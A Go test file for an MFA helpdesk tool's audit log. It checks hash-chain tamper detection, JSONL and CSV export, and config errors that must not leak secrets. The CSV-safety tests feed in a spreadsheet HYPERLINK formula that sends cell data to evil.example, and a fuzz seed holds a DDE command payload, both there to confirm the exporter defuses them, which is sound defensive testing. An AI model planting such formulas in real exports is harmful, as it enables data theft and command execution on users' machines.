package main

import (
	"bufio"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/mfadesk/mfadesk/actions"
	"github.com/mfadesk/mfadesk/actions/directories/dryrun"
	"github.com/mfadesk/mfadesk/storage/storagetest"
)

// auditDB returns a database with a finished request in its audit log
// (created, approved, started, 3 target results, completed) and its env.
func auditDB(t *testing.T, db storagetest.DB) env {
	t.Helper()
	policy := writePolicy(t)
	approvedRequest(t, db.Store, policy, 3)
	ex := actions.NewExecutor(db.Store, dryrun.New(dryrun.Options{}), actions.ExecutorOptions{})
	if ran, err := ex.ExecuteOnce(t.Context()); !ran || err != nil {
		t.Fatalf("execute: %v %v", ran, err)
	}
	return env{"MFADESK_DATABASE_URL": db.URL, "MFADESK_POLICY_FILE": policy}
}

func TestAuditVerifyFindsTampering(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name   string
		sql    []string
		broken string // the stdout line names this event
	}{
		{"intact", nil, ""},
		{"edited", []string{`UPDATE audit_events SET detail = 'approval 1 of 1 (by the boss)' WHERE seq = 2`}, "broken at event 2"},
		{"edited actor", []string{`UPDATE audit_events SET actor = 'U0EVIL' WHERE seq = 5`}, "broken at event 5"},
		{"deleted", []string{`DELETE FROM audit_events WHERE seq = 4`}, "broken at event 4"},
		{"reordered", []string{
			`UPDATE audit_events SET seq = -1 WHERE seq = 3`,
			`UPDATE audit_events SET seq = 3 WHERE seq = 4`,
			`UPDATE audit_events SET seq = 4 WHERE seq = -1`,
		}, "broken at event 3"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			storagetest.EachDB(t, func(t *testing.T, db storagetest.DB) {
				e := auditDB(t, db)
				storagetest.Tamper(t, db, tt.sql...)
				code, out, errOut := runCmd(t, e, "audit", "verify")
				if tt.broken == "" {
					if code != 0 || out != "ok 7 events\n" {
						t.Fatalf("exit %d, stdout %q, stderr %q; want ok 7 events", code, out, errOut)
					}
					return
				}
				if code != 1 || !strings.Contains(out, tt.broken) {
					t.Fatalf("exit %d, stdout %q; want exit 1 naming %q", code, out, tt.broken)
				}
			})
		})
	}
}

func TestAuditVerifyHead(t *testing.T) {
	storagetest.EachDB(t, func(t *testing.T, db storagetest.DB) {
		e := auditDB(t, db)
		_, hash, err := db.Store.AuditHead(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		if code, out, _ := runCmd(t, e, "audit", "verify", "--head", hash); code != 0 || !strings.Contains(out, "is event 7") {
			t.Errorf("known head: exit %d, %q", code, out)
		}
		if code, out, _ := runCmd(t, e, "audit", "verify", "--head", strings.Repeat("ab", 32)); code != 1 || !strings.Contains(out, "not in the chain") {
			t.Errorf("unknown head: exit %d, %q", code, out)
		}
		if code, _, errOut := runCmd(t, e, "audit", "verify", "--head", "xyz"); code != 2 || !strings.Contains(errOut, "64-digit") {
			t.Errorf("bad head: exit %d, %q", code, errOut)
		}
		// The whole chain rewritten from event 6 on, hashes recomputed: the
		// stated head is gone and verify says so, though the chain is consistent.
		storagetest.Tamper(t, db, `DELETE FROM audit_events WHERE seq >= 6`)
		if code, out, _ := runCmd(t, e, "audit", "verify", "--head", hash); code != 1 || !strings.Contains(out, "not in the chain of 5 events") {
			t.Errorf("truncated chain: exit %d, %q", code, out)
		}
	})
}

func TestAuditExport(t *testing.T) {
	storagetest.EachDB(t, func(t *testing.T, db storagetest.DB) {
		e := auditDB(t, db)
		code, out, errOut := runCmd(t, e, "audit", "export")
		if code != 0 {
			t.Fatalf("exit %d: %s", code, errOut)
		}
		var kinds []string
		var v actions.ChainVerifier
		sc := bufio.NewScanner(strings.NewReader(out))
		for sc.Scan() {
			var m map[string]any
			if err := json.Unmarshal(sc.Bytes(), &m); err != nil {
				t.Fatalf("line %q: %v", sc.Text(), err)
			}
			for _, f := range []string{"seq", "time", "request_id", "event", "actor", "action", "targets", "target", "outcome", "detail", "prev_hash", "hash"} {
				if _, ok := m[f]; !ok {
					t.Errorf("event %v lacks %s", m["seq"], f)
				}
			}
			kinds = append(kinds, m["event"].(string))
			var ev actions.Event
			if err := json.Unmarshal(sc.Bytes(), &ev); err != nil {
				t.Fatal(err)
			}
			if err := v.Next(ev); err != nil {
				t.Errorf("exported chain does not verify: %v", err)
			}
		}
		want := "created approved started target_result target_result target_result completed"
		if got := strings.Join(kinds, " "); got != want {
			t.Errorf("events = %s, want %s", got, want)
		}

		code, out, _ = runCmd(t, e, "audit", "export", "--format", "csv")
		rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if code != 0 || err != nil || len(rows) != 8 {
			t.Fatalf("csv: exit %d, %v, %d rows", code, err, len(rows))
		}
		if strings.Join(rows[0], ",") != "seq,time,request_id,event,actor,action,targets,target,method,outcome,detail,prev_hash,hash" {
			t.Errorf("csv header = %v", rows[0])
		}
		var v2 actions.ChainVerifier
		for _, row := range rows[1:] {
			ev, err := eventFromCSV(row)
			if err != nil {
				t.Fatalf("row %v: %v", row, err)
			}
			if err := v2.Next(ev); err != nil {
				t.Errorf("CSV export does not verify: %v", err)
			}
		}
		if created, _ := eventFromCSV(rows[1]); created.Kind != "created" || len(created.Targets) != 3 {
			t.Errorf("created row: %+v, want 3 targets", created)
		}

		if code, out, _ := runCmd(t, e, "audit", "export", "--since", "2999-01-01T00:00:00Z"); code != 0 || out != "" {
			t.Errorf("future --since: exit %d, %q", code, out)
		}
		if code, out, _ := runCmd(t, e, "audit", "export", "--since", "1h"); code != 0 || strings.Count(out, "\n") != 7 {
			t.Errorf("--since 1h: exit %d, %d lines", code, strings.Count(out, "\n"))
		}
		for _, args := range [][]string{{"--format", "xml"}, {"--since", "last tuesday"}, {"extra"}} {
			if code, _, errOut := runCmd(t, e, append([]string{"audit", "export"}, args...)...); code != 2 {
				t.Errorf("%v: exit %d (%s), want 2", args, code, errOut)
			}
		}
	})
}

func TestConfigErrorsNameTheVariable(t *testing.T) {
	policy := writePolicy(t)
	base := env{"SLACK_BOT_TOKEN": "xoxb-1", "SLACK_SIGNING_SECRET": "s3cr3t-value", "MFADESK_APPROVAL_CHANNEL": "C0APPROVE",
		"MFADESK_POLICY_FILE": policy, "MFADESK_DATABASE_URL": "sqlite:" + t.TempDir() + "/x.db", "MFADESK_HTTP_ADDR": "127.0.0.1:0"}
	tests := []struct {
		name string
		e    env
		want string
	}{
		{"no bot token", base.with("SLACK_BOT_TOKEN", ""), "SLACK_BOT_TOKEN: required"},
		{"user token", base.with("SLACK_BOT_TOKEN", "xoxp-123"), "SLACK_BOT_TOKEN: must be a bot token"},
		{"no channel", base.with("MFADESK_APPROVAL_CHANNEL", ""), "MFADESK_APPROVAL_CHANNEL: required"},
		{"channel name", base.with("MFADESK_APPROVAL_CHANNEL", "#helpdesk"), "MFADESK_APPROVAL_CHANNEL: \"#helpdesk\" is not a channel ID"},
		{"no secret in HTTP mode", base.with("SLACK_SIGNING_SECRET", ""), "SLACK_SIGNING_SECRET: required for HTTP mode"},
		{"bad app token", base.with("SLACK_APP_TOKEN", "xoxb-2"), "SLACK_APP_TOKEN: must be an app-level token"},
		{"bad database", base.with("MFADESK_DATABASE_URL", "mysql://u:hunter2@db/x"), "MFADESK_DATABASE_URL"},
		{"bad directory", base.with("MFADESK_DIRECTORY", "ldap"), "MFADESK_DIRECTORY: \"ldap\""},
		{"bad schedule", base.with("MFADESK_DIGEST_SCHEDULE", "every monday"), "MFADESK_DIGEST_SCHEDULE"},
		{"bad lease", base.with("MFADESK_EXECUTOR_LEASE", "forever"), "MFADESK_EXECUTOR_LEASE"},
		{"TAP lifetime out of range", base.with("MFADESK_TAP_LIFETIME", "5m"), "MFADESK_TAP_LIFETIME"},
		{"bad business hours", base.with("MFADESK_BUSINESS_HOURS", "9 to 5"), "MFADESK_BUSINESS_HOURS"},
		{"okta without token", base.with("MFADESK_DIRECTORY", "okta", "OKTA_ORG_URL", "https://x.okta.com"), "OKTA_API_TOKEN: required"},
		{"missing policy", base.with("MFADESK_POLICY_FILE", "/nonexistent/policy.yaml"), "MFADESK_POLICY_FILE"},
		{"unknown log level", base.with("MFADESK_LOG_LEVEL", "verbose"), "MFADESK_LOG_LEVEL: \"verbose\": want debug, info, warn or error"},
		{"unknown log format", base.with("MFADESK_LOG_FORMAT", "yaml"), "MFADESK_LOG_FORMAT: \"yaml\": want json or text"},
		{"metrics address without port", base.with("MFADESK_METRICS_ADDR", "localhost"), "MFADESK_METRICS_ADDR: \"localhost\": want HOST:PORT"},
		{"metrics address is the HTTP address", base.with("MFADESK_METRICS_ADDR", "127.0.0.1:0"), "MFADESK_METRICS_ADDR: is MFADESK_HTTP_ADDR"},
		{"sqlite directory missing", base.with("MFADESK_DATABASE_URL", "sqlite:/nonexistent/dir/x.db"),
			"MFADESK_DATABASE_URL: cannot open SQLite database /nonexistent/dir/x.db: the directory /nonexistent/dir does not exist"},
		{"postgres password in the query", base.with("MFADESK_DATABASE_URL", "postgres://u@127.0.0.1:1/db?password=hunter2&sslmode=bogus"),
			"MFADESK_DATABASE_URL: not a valid PostgreSQL URL: failed to configure TLS (sslmode is invalid)"},
		{"postgres unreachable", base.with("MFADESK_DATABASE_URL", "postgres://u:hunter2@127.0.0.1:1/db?sslmode=disable"),
			"MFADESK_DATABASE_URL: cannot connect to PostgreSQL at 127.0.0.1:1/db"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			code, _, errOut := runCmd(t, tt.e, "serve")
			if code == 0 || !strings.Contains(errOut, tt.want) {
				t.Fatalf("exit %d, stderr %q; want it to name %q", code, errOut, tt.want)
			}
			for _, secret := range []string{"s3cr3t-value", "hunter2", "gorm"} {
				if strings.Contains(errOut, secret) {
					t.Errorf("stderr shows a secret: %q", errOut)
				}
			}
			if lines := strings.Count(strings.TrimSpace(errOut), "\n") + 1; tt.name != "missing policy" && lines != 1 {
				t.Errorf("%d lines, want one: %q", lines, errOut)
			}
		})
	}
}

func TestExamplePolicyParses(t *testing.T) {
	pol, err := actions.LoadPolicy("policy.example.yaml")
	if err != nil {
		t.Fatal(err)
	}
	if u := pol.Unsatisfiable(); len(u) > 0 {
		t.Errorf("the example policy cannot be carried out: %q", u)
	}
	if got := fmt.Sprint(pol.Enabled()); got != "[reset-password require-reregister-mfa revoke-mfa-sessions delete-app-passwords]" {
		t.Errorf("enabled = %s", got)
	}
}

// eventFromCSV reads an exported CSV row back into an event, as a reader
// following the README would: drop one leading "'", decode list cells as
// JSON.
func eventFromCSV(row []string) (actions.Event, error) {
	if len(row) != len(csvHeader) {
		return actions.Event{}, fmt.Errorf("%d cells, want %d", len(row), len(csvHeader))
	}
	for i, c := range row {
		row[i] = strings.TrimPrefix(c, "'")
	}
	seq, err := strconv.ParseInt(row[0], 10, 64)
	if err != nil {
		return actions.Event{}, err
	}
	at, err := time.Parse(time.RFC3339Nano, row[1])
	if err != nil {
		return actions.Event{}, err
	}
	e := actions.Event{Seq: seq, Time: at, RequestID: row[2], Kind: actions.EventKind(row[3]), Actor: row[4],
		Action: actions.Action(row[5]), Method: row[8], Outcome: row[9], Detail: row[10], PrevHash: row[11], Hash: row[12]}
	if row[6] != "" {
		if err := json.Unmarshal([]byte(row[6]), &e.Targets); err != nil {
			return e, fmt.Errorf("targets: %w", err)
		}
	}
	if row[7] != "" {
		if err := json.Unmarshal([]byte(row[7]), &e.Target); err != nil {
			return e, fmt.Errorf("target: %w", err)
		}
	}
	return e, nil
}

// Cells a spreadsheet would run are defused, and lists with separators in
// their emails split back exactly.
func TestAuditExportCSVSafe(t *testing.T) {
	storagetest.EachDB(t, func(t *testing.T, db storagetest.DB) {
		evil := []actions.Event{{
			Time: time.Now(), RequestID: "R1", Kind: actions.EventCreated, Actor: "@U0HELP1", Action: actions.ResetPassword,
			Targets: []actions.TargetRef{{SlackID: "U1", Email: "a|b;c@example.com", DirectoryID: "x;y"}, {SlackID: "U2", Email: "d,e@example.com"}},
			Detail:  `=HYPERLINK("https://evil.example/?"&A1,"open")`,
		}, {
			Time: time.Now(), RequestID: "R1", Kind: actions.EventTargetResult, Actor: "mfadesk", Action: actions.ResetPassword,
			Target: &actions.TargetRef{SlackID: "U1", Email: "a|b;c@example.com"}, Outcome: "ok", Detail: "+1 -2 'quoted",
		}, {
			Time: time.Now(), Kind: actions.EventRefused, Actor: "U3", Detail: "'=already quoted", Method: "-push",
		}}
		if err := db.Store.AppendEvents(t.Context(), evil...); err != nil {
			t.Fatal(err)
		}
		e := env{"MFADESK_DATABASE_URL": db.URL}
		code, out, errOut := runCmd(t, e, "audit", "export", "--format", "csv")
		if code != 0 {
			t.Fatalf("exit %d: %s", code, errOut)
		}
		rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil || len(rows) != 4 {
			t.Fatalf("csv: %v, %d rows", err, len(rows))
		}
		for _, row := range rows[1:] {
			for _, c := range row {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("cell %q would run in a spreadsheet", c)
				}
			}
		}
		if got := rows[1][10]; got != `'=HYPERLINK("https://evil.example/?"&A1,"open")` {
			t.Errorf("formula cell = %q", got)
		}
		var v actions.ChainVerifier
		for i, row := range rows[1:] {
			ev, err := eventFromCSV(row)
			if err != nil {
				t.Fatal(err)
			}
			if err := v.Next(ev); err != nil {
				t.Errorf("row %d does not re-hash: %v", i+1, err)
			}
			if ev.Detail != evil[i].Detail || ev.Method != evil[i].Method || ev.Actor != evil[i].Actor {
				t.Errorf("row %d read back as %+v, want %+v", i+1, ev, evil[i])
			}
		}
		if first, _ := eventFromCSV(rows[1]); len(first.Targets) != 2 || first.Targets[0].Email != "a|b;c@example.com" || first.Targets[0].DirectoryID != "x;y" {
			t.Errorf("targets read back as %+v", first.Targets)
		}
	})
}

// Every exported line, JSONL and CSV, re-hashes to its hash, whatever the
// event holds.
func FuzzExportRehashes(f *testing.F) {
	f.Add("R1", "U1", "=cmd|' /C calc'!A0", "a|b;c@x", "push", int64(1700000000123456))
	f.Add("\xff\x00", "@x", "\u2028<&>\"", "", "", int64(0))
	f.Fuzz(func(t *testing.T, req, actor, detail, email, method string, us int64) {
		e := actions.Event{Time: time.UnixMicro(us), RequestID: req, Kind: actions.EventTargetResult, Actor: actor,
			Action: actions.Action(method), Method: method, Outcome: detail, Detail: detail,
			Target:  &actions.TargetRef{SlackID: actor, Email: email, DirectoryID: req},
			Targets: []actions.TargetRef{{Email: email}, {SlackID: detail}}}
		e.Seal(41, strings.Repeat("0", 64))
		line, err := json.Marshal(exportable(e))
		if err != nil {
			t.Fatal(err)
		}
		var back actions.Event
		if err := json.Unmarshal(line, &back); err != nil {
			t.Fatalf("%s: %v", line, err)
		}
		if got := back.ComputeHash(); got != back.Hash || back.Hash != e.Hash {
			t.Fatalf("JSONL line %s re-hashes to %s, want %s", line, got, e.Hash)
		}
		var buf strings.Builder
		w := csv.NewWriter(&buf)
		x := exportable(e)
		targets, _ := csvJSON(x.Targets, false)
		target, _ := csvJSON(x.Target, false)
		row := []string{strconv.FormatInt(x.Seq, 10), x.Time, x.RequestID, string(x.Event), x.Actor,
			string(x.Action), targets, target, x.Method, x.Outcome, x.Detail, x.PrevHash, x.Hash}
		for i := range row {
			row[i] = csvCell(row[i])
		}
		if err := w.Write(row); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		rows, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
		if err != nil || len(rows) != 1 {
			t.Fatalf("csv %q: %v", buf.String(), err)
		}
		ev, err := eventFromCSV(rows[0])
		if err != nil {
			t.Fatal(err)
		}
		if got := ev.ComputeHash(); got != e.Hash {
			t.Fatalf("CSV row %q re-hashes to %s, want %s", buf.String(), got, e.Hash)
		}
	})
}

// audit verify walks to the database's recorded head and checks that every
// finished request has its created and closing events, so a log cut at its
// end, or a finished request with an event taken out and the head moved
// back, is found.
func TestAuditVerifyFindsMissingEvents(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		sql  []string
		want []string // stdout lines name these
	}{
		{"cut tail", []string{`DELETE FROM audit_events WHERE seq >= 4`},
			[]string{"broken: the log ends at event 3, but the database's recorded head is event 7", "events 4 to 7 were cut from the end"}},
		{"last event replaced", []string{`UPDATE audit_events SET hash = 'x' || hash WHERE seq = 7`, `UPDATE audit_head SET hash = 'x' || hash`},
			[]string{"broken: audit chain broken at event 7"}},
		{"completed taken out, head moved back", []string{
			`DELETE FROM audit_events WHERE seq = 7`,
			`UPDATE audit_head SET seq = 6, hash = (SELECT hash FROM audit_events WHERE seq = 6)`,
		}, []string{"is succeeded, but the log lacks its `completed` event"}},
		{"created taken out, chain rebuilt", nil, []string{"lacks its `created` event"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			storagetest.EachDB(t, func(t *testing.T, db storagetest.DB) {
				var e env
				if tt.sql == nil {
					// A request whose created event is gone, though the chain
					// is whole: a finished request made by hand.
					e = env{"MFADESK_DATABASE_URL": db.URL}
					approvedRequest(t, db.Store, writePolicy(t), 1)
					storagetest.Tamper(t, db, `DELETE FROM audit_events`, `UPDATE audit_head SET seq = 0, hash = ''`,
						`UPDATE requests SET state = 'cancelled'`)
					if err := db.Store.AppendEvents(t.Context(), actions.Event{Time: time.Now(), Kind: actions.EventCancelled,
						Actor: "U0HELP1", RequestID: onlyRequestID(t, db)}); err != nil {
						t.Fatal(err)
					}
				} else {
					e = auditDB(t, db)
					storagetest.Tamper(t, db, tt.sql...)
				}
				code, out, errOut := runCmd(t, e, "audit", "verify")
				if code != 1 {
					t.Fatalf("exit %d, stdout %q, stderr %q; want 1", code, out, errOut)
				}
				for _, w := range tt.want {
					if !strings.Contains(out, w) {
						t.Errorf("stdout %q lacks %q", out, w)
					}
				}
			})
		})
	}
}

func onlyRequestID(t *testing.T, db storagetest.DB) string {
	t.Helper()
	var id string
	if err := storagetest.Raw(t, db).QueryRowContext(t.Context(), `SELECT id FROM requests`).Scan(&id); err != nil {
		t.Fatal(err)
	}
	return id
}

// Read-only commands create no database and refuse an unmigrated one; a
// stated head on an empty log does not claim a rewrite.
func TestAuditReadOnlyDatabases(t *testing.T) {
	dir := t.TempDir()
	typo := dir + "/typo.db"
	for _, args := range [][]string{{"audit", "verify"}, {"audit", "export"}} {
		code, _, errOut := runCmd(t, env{"MFADESK_DATABASE_URL": "sqlite:" + typo}, args...)
		if code != 1 || !strings.Contains(errOut, "no database at "+typo) {
			t.Errorf("%v on a missing file: exit %d, %q", args, code, errOut)
		}
		if _, err := os.Stat(typo); !errors.Is(err, os.ErrNotExist) {
			t.Fatalf("%v created %s", args, typo)
		}
	}
	storagetest.EachDB(t, func(t *testing.T, db storagetest.DB) {
		bare := storagetest.URL(t, db.Dialect)
		storagetest.Open(t, bare) // exists, not migrated
		code, _, errOut := runCmd(t, env{"MFADESK_DATABASE_URL": bare}, "audit", "verify")
		if code != 1 || !strings.Contains(errOut, "not migrated") || !strings.Contains(errOut, "mfadesk migrate") {
			t.Errorf("unmigrated: exit %d, %q", code, errOut)
		}
		e := env{"MFADESK_DATABASE_URL": db.URL}
		if code, out, _ := runCmd(t, e, "audit", "verify"); code != 0 || out != "ok 0 events\n" {
			t.Errorf("empty log: exit %d, %q", code, out)
		}
		code, out, _ := runCmd(t, e, "audit", "verify", "--head", strings.Repeat("ab", 32))
		if code != 1 || !strings.Contains(out, "the audit log is empty") || strings.Contains(out, "rewritten") {
			t.Errorf("--head on an empty log: exit %d, %q", code, out)
		}
	})
}
